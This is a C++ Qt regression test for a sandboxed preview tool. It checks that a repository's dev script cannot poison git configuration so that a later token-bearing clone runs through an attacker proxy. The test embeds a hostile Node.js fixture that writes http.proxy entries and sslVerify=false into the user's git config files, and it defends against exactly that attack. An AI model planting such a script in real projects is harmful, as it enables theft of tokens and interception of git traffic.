// End to end: a repository whose dev script rewrites git's configuration in the sandbox's home
// must not steer the next clone. The sandbox home (sandboxes/<id>/home) outlives a run, and Run
// again clones into the same sandbox, so a script that writes `[http] proxy = ...` to ~/.gitconfig
// (or $XDG_CONFIG_HOME/git/config) would have the next clone - which carries the user's GitHub
// token - send its requests through a proxy of the attacker's choosing (issue 16, item 1).
//
// Played here: a private repository behind Basic auth (git http-backend, as in tst_privateclone)
// with GH_TOKEN set, and a recording HTTP proxy on 127.0.0.1. The first preview goes live and its
// dev script points both git configuration files at the proxy; the second preview of the same
// repository (same data folder, so the same sandbox) must clone straight from the server: the
// proxy receives nothing, least of all the token. The clone runs with the host's network, so this
// holds whatever network the dev server itself gets.

#include "CliProcesses.h"
#include "FixtureRepository.h"
#include "GitHttpServer.h"
#include "HttpServer.h"
#include "SecretLeakScanner.h"

#include <QJsonObject>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using forge::test::CliRun;
using forge::test::FixtureRepository;
using forge::test::GitHttpServer;
using forge::test::HttpExchange;
using forge::test::HttpResponse;
using forge::test::HttpServer;
using forge::test::RecordedRequest;
using forge::test::SecretLeakScanner;

namespace {

const QString Canary = u"ghp_CANARYgitconfig0123456789abcdefABCDEF"_s;
constexpr int RunTimeoutMs = 8 * 60 * 1000;

// An HTTP proxy that proxies nothing: it keeps every request it receives (request line and headers,
// Authorization and Proxy-Authorization included) and answers 502.
class RecordingProxy : public HttpServer
{
public:
    RecordingProxy()
    {
        setHandler([](const RecordedRequest&, const std::shared_ptr<HttpExchange>& exchange) {
            exchange->send(HttpResponse{502, {}, {}});
        });
    }
};

// The dev script: points every git configuration file the sandbox's git could read at `proxy`,
// then serves, so the preview goes live and nothing looks amiss.
QByteArray hostileScript(quint16 proxyPort, const QUrl& gitServer)
{
    const QByteArray proxy = "http://127.0.0.1:" + QByteArray::number(proxyPort);
    const QByteArray config = "[http]\\n\\tproxy = " + proxy + "\\n[http \\\"" + gitServer.toEncoded() +
                              "\\\"]\\n\\tproxy = " + proxy +
                              "\\n[http \\\"https://github.com/\\\"]\\n\\tsslVerify = false\\n";
    return R"(const fs = require('fs');
const path = require('path');
const os = require('os');
const config = ")" +
           config + R"(";
const xdg = process.env.XDG_CONFIG_HOME || path.join(os.homedir(), '.config');
for (const file of [path.join(os.homedir(), '.gitconfig'), path.join(xdg, 'git', 'config')]) {
  try { fs.mkdirSync(path.dirname(file), { recursive: true }); fs.writeFileSync(file, config); console.log('WROTE ' + file); }
  catch (e) { console.log('REFUSED ' + file + ' ' + e.code); }
}
const http = require('http');
const port = Number(process.env.PORT || 3000);
http.createServer((req, res) => res.end('hostile fixture served')).listen(port, '0.0.0.0', () => {
  console.log(`listening on port ${port}`);
});
)";
}

} // namespace

class TestHostileGitConfig : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void aDevScriptCannotProxyTheNextClone();

private:
    // Runs one preview to readiness (--exit-when-ready); its exit code.
    void preview(CliRun& run, const QUrl& repository);
};

void TestHostileGitConfig::preview(CliRun& run, const QUrl& repository)
{
    QSignalSpy exited(&run.process(), &QProcess::finished);
    run.start({u"preview"_s, repository.toString(), u"--exit-when-ready"_s, u"--json"_s});
    QVERIFY2(exited.wait(RunTimeoutMs), qPrintable(run.transcript()));
}

void TestHostileGitConfig::aDevScriptCannotProxyTheNextClone()
{
    QTemporaryDir work;
    QVERIFY(work.isValid());
    RecordingProxy proxy;
    QVERIFY(proxy.listen());
    const QString served = work.filePath(u"served"_s);
    GitHttpServer server(served);
    QString error;
    QVERIFY2(server.listen(&error), qPrintable(error));
    server.requireAuthorization("basic " + QByteArray("x-access-token:" + Canary.toUtf8()).toBase64());

    FixtureRepository repository(work.filePath(u"hostile"_s));
    QVERIFY2(repository.initializeWithFiles(
                 {{u"package.json"_s,
                   R"({ "name": "hostile-gitconfig", "version": "1.0.0", "private": true,
                        "scripts": { "dev": "node dev.js" } })"},
                  {u"dev.js"_s, hostileScript(proxy.port(), server.url())}}),
             qPrintable(repository.errorString()));
    QVERIFY2(repository.createBareClone(served, u"hostile"_s), qPrintable(repository.errorString()));
    const QUrl url = server.repositoryUrl(u"hostile"_s);

    QTemporaryDir data;
    const QMap<QString, QString> environment{{u"GH_TOKEN"_s, Canary}, {u"GH_HOST"_s, url.authority()}};

    // First run: clones with the token and goes live; the dev script plants the configuration.
    CliRun first(data.path(), environment);
    preview(first, url);
    QVERIFY2(first.event(u"ready"_s), qPrintable(first.transcript()));
    QCOMPARE(first.process().exitCode(), 0);
    const QString planted = first.outputLines();
    // Both files were written (the attack is in place), so what follows tests the clone.
    QVERIFY2(planted.contains(
                 QRegularExpression(u"^WROTE \\S*/\\.gitconfig$"_s, QRegularExpression::MultilineOption)),
             qPrintable(planted));
    QVERIFY2(planted.contains(
                 QRegularExpression(u"^WROTE \\S*/git/config$"_s, QRegularExpression::MultilineOption)),
             qPrintable(planted));
    QVERIFY(server.requestsWithAuthorization() > 0);
    QCOMPARE(proxy.connectionCount(), 0);

    // Run again: the same sandbox, so the same home with the planted files in it.
    server.clearRequests();
    CliRun second(data.path(), environment);
    preview(second, url);

    const SecretLeakScanner token(SecretLeakScanner::formsOf(Canary));
    for (const RecordedRequest& request : proxy.requests()) {
        // Shown: the request line and the header names, never a header's value.
        QByteArrayList shown{request.method + ' ' + request.target};
        QByteArray head = shown.constFirst();
        for (const auto& [name, value] : request.headers) {
            shown << name;
            head += '\n' + name + ": " + value;
        }
        const QByteArray seen = shown.join(" | ");
        qInfo("the planted proxy received: %s", seen.constData());
        QVERIFY2(!token.contains(head), QByteArray("the proxy received the token with " + seen).constData());
    }
    QVERIFY2(
        proxy.connectionCount() == 0,
        qPrintable(u"the clone connected to the planted proxy %1 time(s)"_s.arg(proxy.connectionCount())));
    QVERIFY2(second.transcript().contains(u"reusing sandbox"_s), qPrintable(second.transcript()));
    QVERIFY2(second.event(u"ready"_s), qPrintable(second.transcript()));
    QCOMPARE(second.process().exitCode(), 0);
    QVERIFY(server.requestsWithAuthorization() > 0);
}

QTEST_GUILESS_MAIN(TestHostileGitConfig)
#include "tst_hostilegitconfig.moc"
